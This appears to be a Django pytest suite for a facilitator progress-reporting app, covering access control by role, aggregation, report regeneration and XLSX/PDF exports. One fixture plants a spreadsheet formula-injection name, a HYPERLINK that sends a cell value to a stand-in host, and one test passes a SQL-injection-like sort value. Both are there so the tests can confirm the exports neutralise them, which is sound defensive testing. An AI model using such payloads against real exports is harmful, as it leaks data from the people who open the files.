import email.message
import io

import pytest
from django.urls import reverse
from django.utils.http import content_disposition_header
from openpyxl import load_workbook

from accounts.tests.factories import FacilitatorFactory
from conftest import login
from regions.models import Region
from reports import services
from reports.models import ProgressReport, ReportRun, Trigger
from reports.tests.conftest import Q
from reports.tests.factories import household_at

pytestmark = pytest.mark.django_db


@pytest.fixture
def reports(seeded, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        services.report_run_create(
            quarter=Q, facilitators=seeded, by=None, trigger=Trigger.SCHEDULE
        )
    return {r.facilitator_id: r for r in ProgressReport.objects.all()}


def _get(client, user, name, *args, **query):
    login(client, user)
    url = reverse(name, args=args)
    return client.get(url, query)


# --- facilitator -----------------------------------------------------------------------


def test_facilitator_sees_own_reports_only(client, facilitator, other_facilitator, reports):
    response = _get(client, facilitator, "reports:list")
    assert response.status_code == 200
    assert list(response.context["page"].object_list) == [reports[facilitator.pk]]
    own = _get(client, facilitator, "reports:detail", reports[facilitator.pk].pk)
    assert own.status_code == 200
    assert "Jumlah dampingan" in own.content.decode()
    body = own.content.decode()
    for label in ["Kekurangan dari target", "Tingkat kehadiran", "Cakupan bantuan komplementer"]:
        assert label in body
    other = _get(client, facilitator, "reports:detail", reports[other_facilitator.pk].pk)
    assert other.status_code == 404
    for name in ["reports:detail_xlsx", "reports:detail_pdf"]:
        assert _get(client, facilitator, name, reports[other_facilitator.pk].pk).status_code == 404


def test_facilitator_is_refused_lead_pages(client, facilitator, reports):
    login(client, facilitator)
    for name in ["reports:team", "reports:team_xlsx", "reports:runs", "reports:district"]:
        assert client.get(reverse(name)).status_code == 403, name
    regenerate = reverse("reports:regenerate", args=[reports[facilitator.pk].pk])
    assert client.post(regenerate).status_code == 403
    assert ReportRun.objects.count() == 1


def test_unknown_report_is_404(client, facilitator):
    assert _get(client, facilitator, "reports:detail", 999999).status_code == 404


# --- supervisor ------------------------------------------------------------------------


def test_supervisor_team_page_lists_own_team_with_previous_quarter(
    client, supervisor, facilitator, other_facilitator, other_team_facilitator, reports
):
    response = _get(client, supervisor, "reports:team", triwulan=str(Q))
    assert response.status_code == 200
    rows = response.context["rows"]
    assert {r.facilitator for r in rows} == {facilitator, other_facilitator}
    row = next(r for r in rows if r.facilitator == facilitator)
    assert row.values["caseload.total_end"] == 2
    assert row.previous["caseload.total_end"] == 2  # from the report's own comparison
    body = response.content.decode()
    assert "kekurangan terbesar terhadap target graduasi" in body  # the default order says so
    assert "Graduasi sejahtera mandiri terhadap target per pendamping" in body  # the chart
    assert "chart.umd.min.js" in body


def test_team_page_sorts_by_any_column(client, supervisor, facilitator, other_facilitator, reports):
    response = _get(
        client, supervisor, "reports:team", triwulan=str(Q), urut="caseload.total_end", arah="desc"
    )
    assert [r.facilitator for r in response.context["rows"]] == [other_facilitator, facilitator]
    response = _get(
        client, supervisor, "reports:team", triwulan=str(Q), urut="caseload.total_end", arah="asc"
    )
    assert [r.facilitator for r in response.context["rows"]] == [facilitator, other_facilitator]
    bogus = _get(client, supervisor, "reports:team", triwulan="nonsense", urut="'; drop")
    assert bogus.status_code == 200


def test_team_page_prefers_the_stored_previous_quarter_report(
    client, supervisor, facilitator, reports
):
    ProgressReport.objects.create(
        facilitator=facilitator,
        quarter=str(Q.previous),
        snapshot={},
        summary={"caseload.total_end": 17},
        generated_at=reports[facilitator.pk].generated_at,
        trigger=Trigger.SCHEDULE,
    )
    response = _get(client, supervisor, "reports:team", triwulan=str(Q))
    row = next(r for r in response.context["rows"] if r.facilitator == facilitator)
    assert row.previous["caseload.total_end"] == 17


def test_supervisor_cannot_open_another_teams_report(
    client, supervisor, other_team_facilitator, reports
):
    pk = reports[other_team_facilitator.pk].pk
    assert _get(client, supervisor, "reports:detail", pk).status_code == 404
    login(client, supervisor)
    assert client.post(reverse("reports:regenerate", args=[pk])).status_code == 404


def test_supervisor_regenerates_a_report_and_is_recorded(
    client, supervisor, facilitator, reports, django_capture_on_commit_callbacks
):
    report = reports[facilitator.pk]
    household_at(when=Q.start, facilitator=facilitator)  # a late entry for the quarter
    login(client, supervisor)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("reports:regenerate", args=[report.pk]))
    assert response.status_code == 302
    report.refresh_from_db()
    assert report.generated_by == supervisor and report.summary["caseload.total_end"] == 3
    assert ProgressReport.objects.filter(facilitator=facilitator, quarter=str(Q)).count() == 1


def test_supervisor_regenerates_the_whole_team(
    client, supervisor, facilitator, other_facilitator, reports, django_capture_on_commit_callbacks
):
    login(client, supervisor)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("reports:team"), {"triwulan": str(Q)})
    run = ReportRun.objects.latest("pk")
    assert response.status_code == 302 and response.url == reverse(
        "reports:run_detail", args=[run.pk]
    )
    assert run.total == 2 and run.requested_by == supervisor
    assert ProgressReport.objects.count() == 3


@pytest.mark.django_db(transaction=True)
def test_regenerate_with_redis_down_says_so_instead_of_500(
    component_rows, client, supervisor, facilitator, seeded, broker_down
):
    from reports.snapshot import snapshot_build

    snapshot, summary = snapshot_build(facilitator=facilitator, quarter=Q)
    report = ProgressReport.objects.create(
        facilitator=facilitator,
        quarter=str(Q),
        snapshot=snapshot,
        summary=summary,
        generated_at="2026-07-01T02:00:00+07:00",
        trigger=Trigger.SCHEDULE,
    )
    login(client, supervisor)
    response = client.post(reverse("reports:regenerate", args=[report.pk]), follow=True)
    assert response.status_code == 200
    text = response.content.decode()
    assert "Redis" in text and "tidak dapat dihubungi" in text
    assert ReportRun.objects.get().status == "failed"
    report.refresh_from_db()
    assert report.generated_by is None  # untouched


# --- admin -----------------------------------------------------------------------------


def test_admin_sees_the_district_by_supervisor(
    client, admin_user, supervisor, other_supervisor, reports
):
    response = _get(client, admin_user, "reports:district", triwulan=str(Q))
    assert response.status_code == 200
    rows = {r.supervisor: r for r in response.context["rows"]}
    assert rows[supervisor].facilitators == 2 and rows[supervisor].reports == 2
    assert rows[supervisor].totals["caseload.total_end"] == 5
    assert rows[other_supervisor].totals["caseload.total_end"] == 4
    team = _get(client, admin_user, "reports:team", triwulan=str(Q), supervisor=other_supervisor.pk)
    assert [r.facilitator.username for r in team.context["rows"]] == ["pendamping9"]


def test_district_percentages_are_recomputed_from_the_team_sums(
    client, admin_user, supervisor, facilitator, other_facilitator, reports
):
    parts = {
        facilitator.pk: {"fds.attendance_present": 9, "fds.attendance_expected": 10},
        other_facilitator.pk: {"fds.attendance_present": 1, "fds.attendance_expected": 30},
    }
    parts[facilitator.pk] |= {"aid.receiving": 3, "aid.eligible": 4}
    parts[other_facilitator.pk] |= {"aid.receiving": 0, "aid.eligible": 0}
    for pk, values in parts.items():
        report = reports[pk]
        report.summary = {**report.summary, **values}
        report.save(update_fields=["summary"])
    response = _get(client, admin_user, "reports:district", triwulan=str(Q))
    totals = next(r for r in response.context["rows"] if r.supervisor == supervisor).totals
    assert totals["fds.attendance_pct"] == 25.0  # 10 / 40, not the mean of 90% and 3.3%
    assert totals["aid.coverage_pct"] == 75.0


def test_admin_of_another_region_sees_nothing(
    client, other_region_admin, supervisor, facilitator, reports
):
    assert (
        _get(client, other_region_admin, "reports:detail", reports[facilitator.pk].pk).status_code
        == 404
    )
    response = _get(client, other_region_admin, "reports:team", supervisor=supervisor.pk)
    assert response.status_code == 404
    district = _get(client, other_region_admin, "reports:district", triwulan=str(Q))
    assert district.context["rows"] == []
    assert list(_get(client, other_region_admin, "reports:runs").context["page"]) == []


def test_supervisor_is_refused_the_district_page(client, supervisor):
    assert _get(client, supervisor, "reports:district").status_code == 403


# --- downloads -------------------------------------------------------------------------


@pytest.fixture
def evil_facilitator(supervisor, seeded, django_capture_on_commit_callbacks):
    f = FacilitatorFactory(
        username="jahil",
        first_name='=HYPERLINK("http://evil.example/?x="&A1,"klik")',
        last_name="",
        supervisor=supervisor,
        areas=[Region.objects.get(code="34.02.09.2004")],
    )
    household_at(when=Q.start, facilitator=f)
    with django_capture_on_commit_callbacks(execute=True):
        services.report_run_create(quarter=Q, facilitators=[f], by=None)
    return f


def _texts(workbook):
    return [
        cell
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def test_report_xlsx_has_a_sheet_per_section_real_numbers_and_no_formulas(
    client, supervisor, evil_facilitator
):
    report = ProgressReport.objects.get(facilitator=evil_facilitator)
    response = _get(client, supervisor, "reports:detail_xlsx", report.pk)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(io.BytesIO(response.content))
    assert [ws.title for ws in wb.worksheets] == [
        "Jumlah dampingan",
        "Graduasi terhadap target",
        "Kunjungan rumah",
        "Pertemuan P2K2 (FDS)",
        "Bantuan komplementer",
        "Verifikasi komitmen",
        "Pengaduan",
        "Perubahan daftar dampingan",
    ]
    caseload = wb["Jumlah dampingan"]
    values = {row[0].value: row[1].value for row in caseload.iter_rows() if row[0].value}
    assert values["Keluarga dampingan di akhir triwulan"] == 1  # an int, not "1"
    texts = _texts(wb)
    name_cells = [c for c in texts if "HYPERLINK" in c.value]
    assert name_cells and all(c.value.startswith("'=") and c.data_type == "s" for c in name_cells)
    assert not any(c.data_type == "f" for c in texts)
    graduation = wb["Graduasi terhadap target"]
    values = {row[0].value: row[1].value for row in graduation.iter_rows() if row[0].value}
    assert isinstance(values["Target graduasi mandiri triwulan"], int)
    assert values["Kekurangan dari target"] == values["Target graduasi mandiri triwulan"]


def test_team_xlsx_neutralises_names_and_keeps_numbers(client, supervisor, evil_facilitator):
    response = _get(client, supervisor, "reports:team_xlsx", triwulan=str(Q))
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    assert "Kunjungan rumah" in wb.sheetnames and "Graduasi terhadap target" in wb.sheetnames
    ws = wb["Jumlah dampingan"]
    rows = [r for r in ws.iter_rows(values_only=True) if r[1] == "jahil"]
    assert rows and rows[0][0].startswith("'=HYPERLINK") and rows[0][2] == 1
    assert not any(c.data_type == "f" for c in _texts(wb))


def test_pdfs_are_a4_pages(client, supervisor, evil_facilitator):
    report = ProgressReport.objects.get(facilitator=evil_facilitator)
    for response in [
        _get(client, supervisor, "reports:detail_pdf", report.pk),
        _get(client, supervisor, "reports:team_pdf", triwulan=str(Q)),
    ]:
        assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
        assert response.content.startswith(b"%PDF")
        assert b"595.2756" in response.content and b"841.8898" in response.content  # A4


# --- runs ------------------------------------------------------------------------------


def test_runs_page_shows_failures_and_reruns_one_facilitator(
    client, supervisor, facilitator, seeded, monkeypatch, django_capture_on_commit_callbacks
):
    real = services.snapshot_build

    def flaky(*, facilitator, quarter):
        if facilitator.username == "pendamping1":
            raise RuntimeError("kolom hilang")
        return real(facilitator=facilitator, quarter=quarter)

    monkeypatch.setattr(services, "snapshot_build", flaky)
    with django_capture_on_commit_callbacks(execute=True):
        run = services.report_run_create(quarter=Q, facilitators=seeded, by=None)
    response = _get(client, supervisor, "reports:run_detail", run.pk)
    body = response.content.decode()
    assert response.status_code == 200 and "kolom hilang" in body
    items = list(response.context["page"])
    assert [i.facilitator.username for i in items] == ["pendamping1", "pendamping2"]  # own team
    monkeypatch.setattr(services, "snapshot_build", real)
    with django_capture_on_commit_callbacks(execute=True):
        rerun = client.post(reverse("reports:item_rerun", args=[items[0].pk]))
    assert rerun.status_code == 302
    run.refresh_from_db()
    assert run.status == "done" and run.failed_count == 0
    listing = _get(client, supervisor, "reports:runs")
    assert list(listing.context["page"]) == [run]


def test_run_of_another_team_is_404(
    client, other_supervisor, facilitator, django_capture_on_commit_callbacks, seeded
):
    with django_capture_on_commit_callbacks(execute=True):
        run = services.report_run_create(quarter=Q, facilitators=[facilitator], by=None)
    assert _get(client, other_supervisor, "reports:run_detail", run.pk).status_code == 404
    login(client, other_supervisor)
    assert client.post(reverse("reports:run_resume", args=[run.pk])).status_code == 404


def test_admin_starts_a_run_and_a_bad_quarter_is_refused(
    client, admin_user, seeded, django_capture_on_commit_callbacks
):
    login(client, admin_user)
    bad = client.post(reverse("reports:run_start"), {"triwulan": "2099Q1"}, follow=True)
    assert bad.status_code == 200 and not ReportRun.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        good = client.post(reverse("reports:run_start"), {"triwulan": str(Q)})
    run = ReportRun.objects.get()
    assert good.status_code == 302 and run.total == 3 and run.status == "done"


# --- query counts ----------------------------------------------------------------------


def _more_team(supervisor, n, django_capture_on_commit_callbacks):
    village = Region.objects.get(code="34.02.09.2001")
    extra = [FacilitatorFactory(supervisor=supervisor, areas=[village]) for _ in range(n)]
    for f in extra:
        household_at(when=Q.start, facilitator=f)
    with django_capture_on_commit_callbacks(execute=True):
        services.report_run_create(quarter=Q, facilitators=extra, by=None)


@pytest.mark.parametrize(
    ("user_fixture", "name", "query"),
    [
        ("supervisor", "reports:team", {"triwulan": str(Q)}),
        ("admin_user", "reports:team", {"triwulan": str(Q)}),
        ("admin_user", "reports:district", {"triwulan": str(Q)}),
        ("supervisor", "reports:list", {}),
        ("supervisor", "reports:runs", {}),
    ],
)
def test_list_pages_cost_the_same_queries_with_more_rows(
    client,
    request,
    user_fixture,
    name,
    query,
    reports,
    django_assert_max_num_queries,
    django_capture_on_commit_callbacks,
):
    user = request.getfixturevalue(user_fixture)
    supervisor = request.getfixturevalue("supervisor")
    login(client, user)
    url = reverse(name)
    client.get(url, query)  # warm caches (content types, sessions)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as few:
        assert client.get(url, query).status_code == 200
    _more_team(supervisor, 6, django_capture_on_commit_callbacks)
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert client.get(url, query).status_code == 200


def test_run_detail_query_count_is_constant(
    client, supervisor, seeded, django_assert_max_num_queries, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        run = services.report_run_create(quarter=Q, facilitators=seeded[:1], by=None)
    login(client, supervisor)
    url = reverse("reports:run_detail", args=[run.pk])
    client.get(url)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as few:
        client.get(url)
    village = Region.objects.get(code="34.02.09.2001")
    extra = [FacilitatorFactory(supervisor=supervisor, areas=[village]) for _ in range(5)]
    from reports.models import ReportRunItem

    ReportRunItem.objects.bulk_create([ReportRunItem(run=run, facilitator=f) for f in extra])
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert client.get(url).status_code == 200


def test_menu_entries_by_role(client, facilitator, supervisor, admin_user):
    for user, present, absent in [
        (facilitator, ["/laporan/daftar/"], ["/laporan/tim/", "/laporan/proses/"]),
        (supervisor, ["/laporan/tim/", "/laporan/proses/"], ["/laporan/wilayah/"]),
        (admin_user, ["/laporan/tim/", "/laporan/wilayah/", "/laporan/proses/"], []),
    ]:
        login(client, user)
        urls = [i["url"] for i in client.get("/").context["nav_items"]]
        assert all(u in urls for u in present) and not any(u in urls for u in absent)


@pytest.mark.parametrize(
    "filename", ['laporan "tim" 2026Q3.xlsx', "laporan-Sénin–Jetis.pdf", "laporan-2026Q3-7.pdf"]
)
def test_download_header_is_built_by_django_for_quotes_and_non_ascii(filename):
    from reports.views import _file

    header = _file(b"x", filename=filename, content_type="application/pdf")["Content-Disposition"]
    assert header == content_disposition_header(True, filename)
    message = email.message.Message()
    message["Content-Disposition"] = header
    assert message.get_filename() == filename


def test_report_download_names_the_file(client, supervisor, evil_facilitator):
    report = ProgressReport.objects.get(facilitator=evil_facilitator)
    response = _get(client, supervisor, "reports:detail_pdf", report.pk)
    name = f"laporan-{report.quarter}-{evil_facilitator.pk}.pdf"
    assert response["Content-Disposition"] == content_disposition_header(True, name)
